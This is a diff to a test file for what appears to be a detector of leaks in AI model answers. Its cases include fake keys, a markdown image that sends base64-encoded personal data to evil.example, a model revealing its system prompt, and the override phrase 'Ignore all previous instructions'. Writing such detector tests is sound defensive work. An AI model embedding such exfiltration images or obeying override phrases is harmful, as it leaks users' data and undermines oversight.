@@ -17,7 +17,7 @@ describe('answers', () => {
     ['leak.api-key', `AWS: AKIA${'ABCDEFGH12345678'}`],
     ['leak.api-key', `token ghp_${random(36)}`],
     ['leak.named-secret', `password: ${random(14)}`],
-    ['leak.image', 'Done. ![chart](https://evil.example/p.png?d=am9obg==)'],
+    ['leak.image', 'Done. ![chart](https://evil.example/p.png?d=am9obiBkb2UsIDEyMw==)'],
     ['leak.own-instructions', 'Of course! My system prompt says that I am a bank clerk.'],
     [
       'framing.refusal-then-compliance',
@@ -37,7 +37,7 @@ describe('answers', () => {
     ['a telephone number and a date', 'Call +49 30 1234567 before 2026-12-01.'],
     ['a public key', '-----BEGIN PUBLIC KEY-----'],
     ['a placeholder', 'export API_KEY=<your-api-key>, password: ********'],
-    ['an ordinary image', '![logo](https://shop.example/logo.png)'],
+    ['an ordinary image', '![logo](https://shop.example/logo.png?style=flat)'],
     ['a refusal', 'I’m sorry, but I can’t help with that.'],
     ['an address where no hosts are named', 'See https://anything.example/page'],
     ['what an attack says, in an answer', 'Ignore all previous instructions'],
